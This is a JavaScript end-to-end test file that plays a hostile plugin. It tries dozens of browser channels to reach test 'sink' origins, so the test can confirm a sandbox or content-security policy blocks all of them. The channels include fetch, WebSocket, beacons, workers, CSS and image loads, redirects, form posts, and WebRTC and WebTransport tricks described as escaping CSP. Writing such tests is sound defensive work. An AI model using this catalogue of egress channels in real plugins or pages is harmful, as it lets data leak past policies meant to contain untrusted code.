// A hostile plugin's egress attempts (tests/e2e/egress.test.mjs). A classic script that only
// defines `egressAttack` and `EGRESS_CHANNELS`, so that the same bytes run as a page's script
// (`iframe` + `src`), inside a bundle or srcdoc document, or as worker code (they are pasted in
// front of a few lines that call it).
//
// egressAttack({ run, targets: { name: origin, … }, settleMs }) tries every channel below towards
// every target origin, each request to `<origin>/sink/<channel><ext>?egress-token=<run>.<channel>.<target>`:
// a token unique to this attempt, which the test then looks for in each origin's request log (the
// servers answer any /sink/ path 200, so only the browser or the SDK can stop a request). It
// resolves, after `settleMs`, with what the code itself saw of each attempt (diagnostics only:
// the logs decide). It never navigates its own document.
//
// It stays clear of what the bundle analysis refuses outright (eval, Function, string timers,
// computed global access): a hostile plugin has no need of those to reach the network.

/** [name, where ('window' | 'worker' | 'both'), extension, attempt(url, ctx)] */
var EGRESS_CHANNELS = [
  ['fetch-cors', 'both', '.json', (u) => fetch(u)],
  ['fetch-no-cors', 'both', '.json', (u) => fetch(u, { mode: 'no-cors' })],
  ['fetch-keepalive', 'both', '.json', (u) => fetch(u, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })],
  ['xhr', 'both', '.json', (u) => {
    const x = new XMLHttpRequest();
    x.open('GET', u);
    x.send();
  }],
  ['websocket', 'both', '', (u) => {
    const ws = new WebSocket(u.replace(/^http/, 'ws'));
    ws.onopen = () => ws.send('secret');
  }],
  ['eventsource', 'both', '.sse', (u) => {
    const es = new EventSource(u);
    setTimeout(() => es.close(), 3000);
  }],
  // UDP to the target's host and port (its servers listen there too: scripts/serve.mjs), outside
  // fetch: ICE connectivity checks towards a remote candidate the plugin made up, their STUN
  // USERNAME carrying the ufrag the plugin chose (the token here). (A `stun:` or `turn:` server
  // URL is another way to any host and port; its requests carry no token, so it is left out.)
  // No CSP directive governs any of it in Chromium 156 (`webrtc` is not recognized).
  ['webrtc', 'both', '', (u) => webrtc(u)],
  // The same from a fresh document the plugin adds, whose window has interfaces of its own: a
  // frame of its page running an inline script (with the page's nonce, if its scripts have one),
  // or a blob: script of the plugin's; and the constructor of an about:blank frame's window.
  ['frame-webrtc', 'window', '', (u) => {
    const nonce = [...document.scripts].map((x) => x.nonce).find(Boolean);
    addFrame(`<script${nonce ? ` nonce="${nonce}"` : ''}>${webrtcSource(u)}<\/script>`);
  }],
  ['frame-blob-webrtc', 'window', '', (u) => {
    const src = URL.createObjectURL(new Blob([webrtcSource(u)], { type: 'text/javascript' }));
    addFrame(`<script src="${src}"><\/script>`);
  }],
  ['child-window-webrtc', 'window', '', (u) => {
    const f = add('iframe', {});
    return webrtc(u, f.contentWindow.RTCPeerConnection);
  }],
  // QUIC to the target's host and port (UDP), outside fetch: a WebTransport session's Initial
  // packets leave before any answer. Its datagrams carry no token the test can read (encrypted):
  // the test recognizes them as QUIC Initials on each origin's port (nothing else sends QUIC:
  // the browser runs with --disable-quic, which leaves WebTransport on).
  ['webtransport', 'both', '', (u) => webtransport(u)],
  ['import', 'both', '.js', (u) => import(u)],
  ['importScripts', 'worker', '.js', (u) => importScripts(u)],
  ['worker', 'both', '.js', (u) => quiet(new Worker(u))],
  ['module-worker', 'both', '.js', (u) => quiet(new Worker(u, { type: 'module' }))],
  ['shared-worker', 'window', '.js', (u) => quiet(new SharedWorker(u))],
  ['blob-worker-fetch', 'both', '.json', (u) => blobWorker(`fetch(${JSON.stringify(u)}, { mode: 'no-cors' }).catch(() => {});`)],
  ['blob-worker-importScripts', 'both', '.js', (u) => blobWorker(`importScripts(${JSON.stringify(u)});`)],
  ['fontface', 'both', '.woff2', (u) => {
    const f = new FontFace('egress-font', `url(${u})`);
    return f.load();
  }],
  ['beacon', 'window', '.json', (u) => navigator.sendBeacon(u, 'secret')],
  ['fetch-later', 'window', '.json', (u) => fetchLater(u, { method: 'POST', body: 'secret', activateAfter: 0 })],
  ['script', 'window', '.js', (u) => add('script', { src: u })],
  ['module-script', 'window', '.js', (u) => add('script', { type: 'module', src: u })],
  ['img', 'window', '.png', (u) => add('img', { src: u })],
  ['image-object', 'window', '.png', (u) => { new Image().src = u; }],
  ['img-srcset', 'window', '.png', (u) => add('img', { srcset: `${u} 1x` })],
  ['picture-source', 'window', '.png', (u) => {
    const p = document.createElement('picture');
    const s = document.createElement('source');
    s.setAttribute('srcset', `${u} 1x`);
    p.append(s, document.createElement('img'));
    root().append(p);
  }],
  ['svg-image', 'window', '.png', (u) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const img = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    img.setAttribute('href', u);
    img.setAttribute('width', '1');
    img.setAttribute('height', '1');
    svg.append(img);
    root().append(svg);
  }],
  ['input-image', 'window', '.png', (u) => add('input', { type: 'image', src: u })],
  ['video-poster', 'window', '.png', (u) => add('video', { poster: u })],
  ['link-stylesheet', 'window', '.css', (u) => add('link', { rel: 'stylesheet', href: u })],
  ['link-prefetch', 'window', '.js', (u) => add('link', { rel: 'prefetch', href: u })],
  ['link-preload', 'window', '.png', (u) => add('link', { rel: 'preload', as: 'image', href: u })],
  ['link-modulepreload', 'window', '.js', (u) => add('link', { rel: 'modulepreload', href: u })],
  ['link-icon', 'window', '.png', (u) => add('link', { rel: 'icon', href: u })],
  ['svg-use', 'window', '.svg', (u) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
    use.setAttribute('href', `${u}#x`);
    svg.append(use);
    root().append(svg);
  }],
  ['video-track', 'window', '.vtt', (u) => {
    const v = document.createElement('video');
    v.crossOrigin = 'anonymous'; // a track of another origin loads only through CORS
    const t = document.createElement('track');
    t.setAttribute('default', '');
    t.setAttribute('src', u);
    v.append(t);
    root().append(v);
  }],
  ['audio-worklet', 'window', '.js', (u) => new AudioContext().audioWorklet.addModule(u)],
  ['paint-worklet', 'window', '.js', (u) => CSS.paintWorklet.addModule(u)],
  ['attributionsrc', 'window', '.png', (u) => add('img', { attributionsrc: u, src: 'data:,' })],
  ['speculation-rules', 'window', '.html', (u) => {
    const nonce = [...document.scripts].map((x) => x.nonce).find(Boolean);
    const s = document.createElement('script');
    s.type = 'speculationrules';
    if (nonce) s.nonce = nonce;
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [u] }] });
    root().append(s);
  }],
  // Through an origin the plugin may load from (the plugins' origin, its own for a `src` page),
  // whose server redirects the request to the target: the policy must hold for the redirect too.
  ['img-redirect', 'window', '.png', (u, c) => add('img', { src: redirected(u, c, '.png') })],
  ['script-redirect', 'window', '.js', (u, c) => add('script', { src: redirected(u, c, '.js') })],
  ['style-redirect', 'window', '.css', (u, c) => add('link', { rel: 'stylesheet', href: redirected(u, c, '.css') })],
  ['font-redirect', 'both', '.woff2', (u, c) => new FontFace(`egress-rf-${c.n}`, `url(${redirected(u, c, '.woff2')})`).load()],
  ['style-import', 'window', '.css', (u) => addStyle(`@import url("${u}");`)],
  ['style-url', 'window', '.png', (u, c) => {
    const cls = `egress-bg-${c.n}`;
    addStyle(`.${cls} { background-image: url("${u}"); width: 4px; height: 4px; }`);
    add('div', { class: cls });
  }],
  ['style-font-face', 'window', '.woff2', (u, c) => {
    const fam = `egress-ff-${c.n}`;
    addStyle(`@font-face { font-family: ${fam}; src: url("${u}"); } .${fam} { font-family: ${fam}; }`);
    add('span', { class: fam }).textContent = 'x';
  }],
  ['style-attr', 'window', '.png', (u) => add('div', { style: `background-image: url("${u}"); width: 4px; height: 4px` })],
  ['audio', 'window', '.mp3', (u) => add('audio', { preload: 'auto', src: u })],
  ['video', 'window', '.mp4', (u) => add('video', { preload: 'auto', src: u })],
  ['object', 'window', '.html', (u) => add('object', { data: u, type: 'text/html' })],
  ['embed', 'window', '.html', (u) => add('embed', { src: u, type: 'text/html' })],
  ['iframe', 'window', '.html', (u) => add('iframe', { src: u })],
  ['a-ping', 'window', '.json', (u, c) => {
    // A same-document link (no navigation away), with a ping to the target. Absolute: a srcdoc
    // document's base URL is its parent's, so a bare `#x` would navigate it to the host page.
    const a = add('a', { href: `${String(location.href).split('#')[0]}#egress-${c.n}`, ping: u });
    a.textContent = 'x';
    a.click();
  }],
  ['form-submit', 'window', '.html', (u, c) => {
    // Into a frame of its own (never this document), so the attempt is not a self-navigation.
    const name = `egress-sink-${c.n}`;
    add('iframe', { name });
    const f = add('form', { method: 'post', action: u, target: name });
    const i = document.createElement('input');
    i.name = 'secret';
    i.value = 'secret';
    f.append(i);
    f.submit();
  }],
  ['window-open', 'window', '.html', (u) => window.open(u, '_blank')],
];

function root() {
  return document.body || document.documentElement;
}

function add(tag, attrs) {
  const e = document.createElement(tag);
  for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v);
  root().append(e);
  return e;
}

function addStyle(css) {
  const s = document.createElement('style');
  s.textContent = css;
  root().append(s);
  return s;
}

/**
 * A URL of the redirecting origin (`c.via`) that its server answers with a redirect to `u`; its
 * own request carries the token of `u`'s channel with `-via` (a request there is logged too).
 */
function redirected(u, c, ext) {
  const token = new URL(u).searchParams.get('egress-token').split('.');
  return `${c.via}/sink/redirect${ext}?egress-token=${token[0]}.${token[1]}-via.${token[2]}&to=${encodeURIComponent(u)}`;
}

/** The ICE ufrag of a URL's egress token: ice-chars only (`-` → `+`, `.` → `/`). */
function egressUfrag(u) {
  return new URL(u).searchParams.get('egress-token').replace(/-/g, '+').replace(/\./g, '/');
}

/**
 * WebRTC towards the host and port of `u` (UDP), with `Peer` (RTCPeerConnection, or another
 * window's): resolves once the connection is set up (its checks then go on their own).
 */
async function webrtc(u, Peer = RTCPeerConnection) {
  const { hostname, port } = new URL(u);
  const host = hostname === 'localhost' ? '127.0.0.1' : hostname;
  const pc = new Peer();
  pc.createDataChannel('egress');
  await pc.setLocalDescription(await pc.createOffer());
  const fingerprint = pc.localDescription.sdp.match(/^a=fingerprint:.*$/m)[0];
  const answer = [
    'v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
    `a=ice-ufrag:${egressUfrag(u)}`, 'a=ice-pwd:egressegressegressegress', fingerprint,
    'a=setup:active', 'a=mid:0', 'a=sctp-port:5000', `a=candidate:1 1 udp 2130706431 ${host} ${port} typ host`, '',
  ].join('\r\n');
  await pc.setRemoteDescription({ type: 'answer', sdp: answer });
  setTimeout(() => pc.close(), 5000);
}

/** A WebTransport session towards the host and port of `u`: resolves once it is ready (never, here). */
async function webtransport(u) {
  const wt = new WebTransport(u.replace(/^http:/, 'https:'));
  wt.closed.catch(() => {});
  setTimeout(() => { try { wt.close(); } catch { /* never connected */ } }, 5000);
  await wt.ready;
}

/** A self-contained script that runs `webrtc(u)` (for a document of its own). */
function webrtcSource(u) {
  return `${egressUfrag};\n${webrtc};\nwebrtc(${JSON.stringify(u)}).catch(() => {});\n`;
}

/** A frame of `html` (srcdoc) in this document. */
function addFrame(html) {
  const f = document.createElement('iframe');
  f.srcdoc = html;
  root().append(f);
  return f;
}

function blobWorker(code) {
  const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  return quiet(new Worker(url));
}

/** A worker whose failure to load stays its own (it would otherwise crash the plugin's worker). */
function quiet(worker) {
  worker.addEventListener('error', (e) => e.preventDefault());
  return worker;
}

/** Try every channel of this context towards every target; resolves with what was seen. */
async function egressAttack({ run, targets, settleMs = 1500 }) {
  const inWorker = typeof WorkerGlobalScope !== 'undefined' && self instanceof WorkerGlobalScope;
  const seen = [];
  const waits = [];
  let n = 0;
  for (const [channel, where, ext, attempt] of EGRESS_CHANNELS) {
    if (where !== 'both' && where !== (inWorker ? 'worker' : 'window')) continue;
    for (const [target, origin] of Object.entries(targets)) {
      const url = `${origin}/sink/${channel}${ext}?egress-token=${run}.${channel}.${target}`;
      const record = { channel, target, outcome: 'started' };
      seen.push(record);
      n += 1;
      try {
        const r = attempt(url, { n: `${n}-${run.replace(/[^A-Za-z0-9-]/g, '')}`, via: targets.plugins ?? targets.host });
        if (r && typeof r.then === 'function') {
          waits.push(Promise.race([
            r.then(() => { record.outcome = 'resolved'; }, (e) => { record.outcome = `rejected ${e && e.name}`; }),
            new Promise((res) => setTimeout(res, settleMs)),
          ]));
        }
      } catch (e) {
        record.outcome = `threw ${e && e.name}`;
      }
    }
  }
  await Promise.all(waits);
  await new Promise((res) => setTimeout(res, settleMs));
  return seen;
}
